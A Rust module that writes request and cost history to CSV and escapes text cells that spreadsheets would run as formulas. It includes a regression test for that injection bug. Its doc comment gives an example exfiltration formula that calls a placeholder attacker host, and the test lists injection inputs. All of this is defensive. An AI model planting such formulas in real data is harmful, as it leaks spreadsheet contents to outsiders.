//! CSV exports of the history (requests, costs), from the admin API and `switchyard costs
//! --csv`, safe to open in a spreadsheet.
//!
//! Many cells hold what a client sent: model names, tags, client names, error messages. A
//! spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
//! return, which some strip first) as a formula, so a client could plant
//! `=HYPERLINK("https://evil.example/?"&A1)` in the user's own export. Such text cells get a
//! leading `'`, which spreadsheets show as text and do not display; numbers are left as they
//! are.

use std::borrow::Cow;

/// A text cell as a spreadsheet will read it as text.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Rows as CSV: a header of the first row's field names, then one line per row. Nested values
/// (tags) become their JSON text; text cells are made [`spreadsheet_safe`].
pub fn to_csv<T: serde::Serialize>(rows: &[T]) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for (i, row) in rows.iter().enumerate() {
        let flat = flatten(row);
        if i == 0 {
            writer.write_record(flat.iter().map(|(k, _)| k))?;
        }
        writer.write_record(flat.iter().map(|(_, v)| v))?;
    }
    writer
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

/// CSV has no nesting: nested values become their JSON text, in field order.
fn flatten<T: serde::Serialize>(row: &T) -> Vec<(String, String)> {
    let serde_json::Value::Object(map) = serde_json::to_value(row).unwrap_or_default() else {
        return Vec::new();
    };
    map.into_iter()
        .map(|(k, v)| {
            let text = match v {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(s) => spreadsheet_safe(&s).into_owned(),
                serde_json::Value::Number(n) => n.to_string(),
                other => spreadsheet_safe(&other.to_string()).into_owned(),
            };
            (k, text)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Issue 15: client-supplied strings reached CSV cells unescaped (formula injection).
    #[test]
    fn regression_text_that_a_spreadsheet_would_run_is_exported_as_text() {
        for formula in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        assert_eq!(spreadsheet_safe("gpt-4.1"), "gpt-4.1");
        let rows =
            vec![serde_json::json!({"model": "=HYPERLINK(\"x\")", "cost_usd": -0.5, "tokens": 3})];
        let csv = String::from_utf8(to_csv(&rows).unwrap()).unwrap();
        assert_eq!(
            csv, "model,cost_usd,tokens\n\"'=HYPERLINK(\"\"x\"\")\",-0.5,3\n",
            "numbers stay numbers"
        );
    }
}
